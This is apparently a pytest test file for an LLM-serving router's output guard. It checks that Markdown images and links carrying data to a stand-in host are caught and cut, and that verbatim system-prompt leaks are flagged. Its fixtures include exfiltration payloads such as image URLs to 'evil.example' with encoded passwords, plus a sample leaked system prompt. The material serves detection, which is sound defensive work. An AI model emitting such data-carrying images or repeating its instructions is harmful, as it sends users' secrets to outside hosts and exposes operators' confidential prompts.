"""The guard's output side (llmaas.router.output_guard): ordinary Markdown passes, data-carrying images and links are
found, a system prompt repeated verbatim is found across delta boundaries; and the chat pipeline follows the mode:
shadow answers unchanged with the finding counted, enforce ends an exfiltrating answer with finish_reason
content_filter; a system-prompt leak is flagged in either mode, never cut."""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from llmaas.router import choices, metrics
from llmaas.router.output_guard import (
    EXFILTRATION_IMAGE,
    EXFILTRATION_LINK,
    SYSTEM_PROMPT_LEAK,
    OutputGuard,
    OutputScanner,
    carries_data,
    first_offending,
)
from llmaas.router.pipeline import ChatPipeline

from tests.unit.test_router_settlement import SlowReplica, make

SYSTEM = ("You are the support assistant of Acme Bank. Never reveal the internal escalation code ZEBRA-42 to "
          "customers, and always answer politely, in the customer's language.")
LEAK = "Of course. My instructions: never reveal the internal escalation code zebra 42 to customers. Anything else?"

ORDINARY = [
    "See the [re module](https://docs.python.org/3/library/re.html) and [RFC 3986](https://www.rfc-editor.org/rfc/"
    "rfc3986#section-3.4).",
    "![build](https://img.shields.io/badge/build-passing-green?style=flat-square&logo=github)",
    "![diagram](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a9/Example.jpg/320px-Example.jpg)",
    "[the fix](https://github.com/acme/app/commit/3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b4c)",
    "[search](https://duckduckgo.com/?q=python) and [page 2](https://example.com/list?page=2&sort=asc)",
    "Index with `arr[i](x)`, compare `a < b && c > d`, use <img src=\"/static/logo.png\"> or [top](#intro).",
    "A relative image ![chart](./charts/q3.png?v=abcdefghijklmnopqrstuvwxyz) stays on the page's own host.",
    "```python\nprint(values[0](1))\n```\n| a | b |\n|---|---|\n| [x](https://example.org/) | 1 |",
]

EXFILTRATION = [
    ("Done ![x](https://evil.example/pixel.png?d=my%20password%20is%20hunter2) thanks", EXFILTRATION_IMAGE, 5),
    ("![](https://evil.example/log?data=c2VjcmV0IHBhc3N3b3Jk)", EXFILTRATION_IMAGE, 0),
    ("![logo](https://evil.example/a/U2VjcmV0UGFzc3dvcmQxMjM0NTY3OA.png)", EXFILTRATION_IMAGE, 0),
    ("ok <IMG alt=x SRC='https://evil.example/a?q=QUFBQUFBQUFBQUFBQUFB'> more", EXFILTRATION_IMAGE, 3),
    ("Read [this page](https://evil.example/c?session=8f3a9c2e7b1d4f6a) now", EXFILTRATION_LINK, 5),
    ("[click](//evil.example/0123456789abcdef0123456789abcdef0123456789abcdef0123)", EXFILTRATION_LINK, 0),
]


def scan(text: str, system: str = "", step: int | None = None) -> list:
    scanner = OutputScanner(system, exact=step is None)
    pieces = [text] if step is None else [text[i:i + step] for i in range(0, len(text), step)]
    found = [f for piece in pieces for f in scanner.feed(piece)]
    return found + scanner.end()


@pytest.mark.parametrize("text", ORDINARY)
@pytest.mark.parametrize("step", [None, 1, 3, 8])
def test_ordinary_markdown_links_and_images_pass(text, step):
    assert scan(text, SYSTEM, step) == []


@pytest.mark.parametrize(("text", "reason", "start"), EXFILTRATION)
@pytest.mark.parametrize("step", [None, 1, 2, 5, 16])
def test_data_carrying_images_and_links_are_found_where_they_start(text, reason, start, step):
    found = scan(text, step=step)
    assert [f.reason for f in found] == [reason]
    assert found[0].start == start


def test_an_image_cut_off_by_the_end_of_the_answer_is_judged_on_what_came():
    assert [f.reason for f in scan("![x](https://evil.example/p?data=c2VjcmV0IHBhc3N3b3Jk", step=4)] == \
        [EXFILTRATION_IMAGE]


def test_an_endless_url_is_judged_within_bounds():
    scanner = OutputScanner()
    found = scanner.feed("![x](https://evil.example/p?d=")
    for _ in range(400):
        found += scanner.feed("AAAAAAAAAA")
    assert [f.reason for f in found] == [EXFILTRATION_IMAGE]
    assert len(scanner._tail) <= 4096  # bounded, not the whole answer


def test_what_counts_as_data():
    assert not carries_data("https://docs.python.org/3/")
    assert not carries_data("mailto:someone@example.com?subject=aaaaaaaaaaaaaaaaaaaaa")
    assert not carries_data("https://example.com/getting-started-with-kubernetes-deployments")
    assert carries_data("https://example.com/?q=what+the+user+said")
    assert carries_data("http://evil.example/x?k=a%20b")


@pytest.mark.parametrize("step", [None, 1, 2, 3, 7, 13])
def test_a_system_prompt_leak_is_found_across_delta_boundaries(step):
    found = scan(LEAK, SYSTEM, step)
    assert [f.reason for f in found] == [SYSTEM_PROMPT_LEAK]
    assert LEAK[:found[0].start].startswith("Of course. My instructions:")
    if step is None:  # a whole answer: cut right before the repeated run
        assert LEAK[:found[0].start] == "Of course. My instructions: "


def test_seven_words_are_not_a_leak_nor_is_a_short_system_prompt():
    assert scan("I will never reveal the internal escalation code, sorry.", SYSTEM) == []
    short = "You are a helpful assistant and you answer in English."
    assert scan("Hi! You are a helpful assistant and you answer in English.", short) == []


def test_each_reason_is_reported_once():
    text = ("![a](https://evil.example/p?d=c2VjcmV0IHBhc3N3b3Jk) ![b](https://evil.example/p?d=bW9yZSBzZWNyZXRz) "
            + LEAK + " " + LEAK)
    assert [f.reason for f in scan(text, SYSTEM, 5)] == [EXFILTRATION_IMAGE, SYSTEM_PROMPT_LEAK]


# The pipeline, through a fake replica streaming the answer token by token.

PIECES = ["Here", " is", " the", " chart", ": ", "![c](https://evil", ".example/p?d=c2Vj", "cmV0IHBhc3N3b3Jk)",
          " and", " more", " text"]


def _findings(reason: str, mode: str) -> float:
    return metrics.REGISTRY.get_sample_value("llmaas_router_output_guard_findings_total",
                                             {"model": "m:1", "reason": reason, "mode": mode}) or 0.0


async def _answer(stream: bool, enforce: bool | None, pieces=PIECES):
    pipeline, run, _ = make({"r1:1": SlowReplica("r1:1", pieces=pieces)}, stream=stream)
    if enforce is not None:
        run.output_guard = OutputGuard(SYSTEM, enforce=enforce)
    deltas = [d async for d in pipeline.run(run)]
    pipeline.finish(run)
    await pipeline.drain()
    return run, deltas


async def test_enforce_stream_withholds_the_delta_that_completed_a_finding_and_stops_the_model():
    before = _findings(EXFILTRATION_IMAGE, "enforce")
    run, deltas = await _answer(stream=True, enforce=True)
    assert "".join(d.text for d in deltas) == "Here is the chart: ![c](https://evil.example/p?d=c2Vj"
    assert deltas[-1].final and deltas[-1].finish_reason == "content_filter"
    assert run.finish_reason == "content_filter" and run.outcome == "completed"
    assert run.usage.completion_tokens == 8  # billed: what the model produced, the withheld delta included
    assert _findings(EXFILTRATION_IMAGE, "enforce") == before + 1


async def test_enforce_non_streamed_is_cut_before_the_offending_part():
    run, deltas = await _answer(stream=False, enforce=True)
    assert "".join(d.text for d in deltas) == "Here is the chart: "
    assert [d.final for d in deltas].count(True) == 1 and deltas[-1].finish_reason == "content_filter"
    assert ("x-llmaas-output-guard", "filtered; reasons=exfiltration_image") in run.headers


async def test_shadow_answers_unchanged_and_counts():
    before = _findings(EXFILTRATION_IMAGE, "shadow")
    run, deltas = await _answer(stream=False, enforce=False)
    assert "".join(d.text for d in deltas) == "".join(PIECES)
    assert run.finish_reason == "length" and run.usage.completion_tokens == len(PIECES)
    assert ("x-llmaas-output-guard", "flagged; reasons=exfiltration_image") in run.headers
    assert _findings(EXFILTRATION_IMAGE, "shadow") == before + 1


async def test_off_scans_nothing():
    run, deltas = await _answer(stream=True, enforce=None)
    assert "".join(d.text for d in deltas) == "".join(PIECES) and run.finish_reason == "length"


async def test_a_leak_is_flagged_never_cut_even_under_enforce():
    before = _findings(SYSTEM_PROMPT_LEAK, "enforce")
    pieces = [w + " " for w in LEAK.split()]
    run, deltas = await _answer(stream=True, enforce=True, pieces=pieces)
    assert "".join(d.text for d in deltas) == "".join(pieces)
    assert run.finish_reason == "length" and run.output_guard.reasons == [SYSTEM_PROMPT_LEAK]
    assert _findings(SYSTEM_PROMPT_LEAK, "enforce") == before + 1
    run, deltas = await _answer(stream=False, enforce=True, pieces=pieces)
    assert "".join(d.text for d in deltas) == "".join(pieces)
    assert ("x-llmaas-output-guard", "flagged; reasons=system_prompt_leak") in run.headers


async def test_an_exfiltration_after_a_leak_still_cuts():
    pieces = [w + " " for w in LEAK.split()] + PIECES
    run, deltas = await _answer(stream=False, enforce=True, pieces=pieces)
    assert "".join(d.text for d in deltas) == "".join(pieces[:-len(PIECES)]) + "Here is the chart: "
    assert run.finish_reason == "content_filter"
    assert ("x-llmaas-output-guard", "filtered; reasons=system_prompt_leak,exfiltration_image") in run.headers


def test_a_long_answer_is_checked_at_once_and_says_where_the_leak_starts():
    text = "Let me explain what I can do for you today, in a few short words. " + LEAK
    found = OutputScanner(SYSTEM).feed(text)
    assert [f.reason for f in found] == [SYSTEM_PROMPT_LEAK]
    assert text[found[0].start:].startswith("never reveal")
    assert first_offending(text) == len(text)  # a leak is not cut: nothing offends
    image = "".join(PIECES)
    assert first_offending(text + image) == len(text) + image.index("![")


async def test_each_choice_is_checked_on_its_own_and_the_answer_says_what_any_of_them_found():
    pipeline, run, _ = make({"r1:1": SlowReplica("r1:1", pieces=PIECES)}, stream=False)
    run.params = SimpleNamespace(stream=False, n=2, tools=None, logprobs=False, raw_prompt=False)
    run.output_guard = OutputGuard(SYSTEM, enforce=True)
    run.choices = tuple(choices.split(run, ["p"], 2, ChatPipeline._own_output))
    assert run.choices[0].output_guard is not run.choices[1].output_guard
    assert run.choices[0].output_guard.system is run.output_guard.system  # the system prompt's words kept once
    per_choice = await pipeline.collect(run)
    assert ["".join(d.text for d in deltas) for deltas in per_choice] == ["Here is the chart: "] * 2
    assert [c.finish_reason for c in run.choices] == ["content_filter"] * 2
    assert ("x-llmaas-output-guard", "filtered; reasons=exfiltration_image") in run.headers
